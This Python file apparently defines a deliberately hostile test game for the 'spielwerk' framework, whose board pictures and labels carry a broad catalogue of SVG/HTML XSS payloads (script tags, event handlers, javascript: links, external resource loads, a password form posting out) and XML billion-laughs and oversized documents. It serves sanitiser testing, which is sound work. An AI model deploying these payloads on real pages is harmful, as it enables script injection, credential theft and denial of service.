"""The game that `spielwerk new` writes, with pictures that no page should believe.

The first position is drawn with everything that could run, fetch or cover something. With each
lantern comes another picture that is too large, or none at all.
"""

from __future__ import annotations

from dataclasses import replace
from os import environ
from typing import Any

from lanterns.game import GAME as LANTERNS  # type: ignore[import-not-found]

from spielwerk.game.text import Text, Translated, same

AWAY = environ.get("HOSTILE_ADDRESS", "http://127.0.0.1:9")
"""An address that must never receive a request."""

RUN = f"window.hurt=(window.hurt||0)+1;fetch('{AWAY}/run');alert('hurt')"

HOSTILE = f"""
<script>{RUN}</script>
<script href="{AWAY}/script.js"/>
<script xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{AWAY}/linked.js"/>
<style>@import url({AWAY}/style.css); * {{ background: url({AWAY}/background.png) }}
  @font-face {{ font-family: f; src: url({AWAY}/font.woff) }}</style>
<svg onload="{RUN}"><rect width="9" height="9" onload="{RUN}"/></svg>
<g data-touch="a1" onclick="{RUN}" onfocus="{RUN}" onmouseover="{RUN}" tabindex="0" autofocus="">
  <rect width="20" height="20" onclick="{RUN}" onpointerdown="{RUN}" style="{RUN}"/></g>
<image href="{AWAY}/image.png" onerror="{RUN}" width="9" height="9"/>
<image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{AWAY}/old.png"/>
<foreignObject width="300" height="300"><div xmlns="http://www.w3.org/1999/xhtml">
  <img src="{AWAY}/html.png" onerror="{RUN}"/><iframe src="{AWAY}/frame"></iframe>
  <form action="{AWAY}/form"><input name="password" autofocus=""/></form></div></foreignObject>
<a href="javascript:{RUN}"><rect width="300" height="300" fill="red"/></a>
<use href="{AWAY}/other.svg#a"/><use href="data:image/svg+xml,&lt;svg onload='{RUN}'/&gt;"/>
<rect width="9" height="9" fill="url({AWAY}/fill.svg#a)" style="fill:url({AWAY}/styled.svg#a)"/>
<rect width="9" height="9" filter="url({AWAY}/filter.svg#a)" mask="url({AWAY}/mask.svg#a)"
  clip-path="url({AWAY}/clip.svg#a)" cursor="url({AWAY}/cursor.png)" class="curtain dialog"/>
<filter id="f"><feImage href="{AWAY}/effect.png"/></filter>
<rect width="9" height="9"><animate attributeName="href" values="javascript:{RUN}" dur="1s"/>
  <set attributeName="onclick" to="{RUN}"/></rect>
<h:script xmlns:h="http://www.w3.org/1999/xhtml">{RUN}</h:script>
<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="{AWAY}/xhtml.png" onerror="{RUN}"/>
<text id="board" x="5" y="5" aria-label="you have won" role="alert">
  &lt;img src=x onerror={RUN}&gt;</text>
<rect x="-90000" y="-90000" width="900000" height="900000" fill="url(#nothing)"/>
"""

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
FRAME = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100">{}</svg>'
IMPOSSIBLE = (
    f'<!DOCTYPE svg [<!ENTITY l0 "ha">{LAUGHS}]>' + FRAME.format("<text>&l8;</text>"),
    FRAME.format('<rect width="1" height="1"/>' * 5_000),
    FRAME.format("<g>" * 200 + "</g>" * 200),
    FRAME.format(f"<!-- {'x' * 400_000} -->"),
    "<svg",
    "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
)


def picture(position: Any) -> str:
    """Return the hostile picture of the first position; then various invalid ones."""
    if position.placed:
        return IMPOSSIBLE[(position.placed - 1) % len(IMPOSSIBLE)]
    styled = f'<?xml-stylesheet href="{AWAY}/sheet.css"?>'
    drawn: str = LANTERNS.board.picture(position)
    return styled + drawn.replace("</svg>", HOSTILE + "</svg>")


def label(position: Any, thing: str) -> Text:
    """Return a label that tries to be more than text."""
    bad = f"<img src=x onerror={RUN}>{thing}"
    return same(bad)


GAME = replace(
    LANTERNS,
    about=replace(
        LANTERNS.about,
        name="hostile",
        package="hostile_game",
        title=Translated({"en": "<b>Hostile</b>", "de": "<b>Feindlich</b>"}),
        sample="",
    ),
    board=replace(LANTERNS.board, picture=picture, label=label),
)
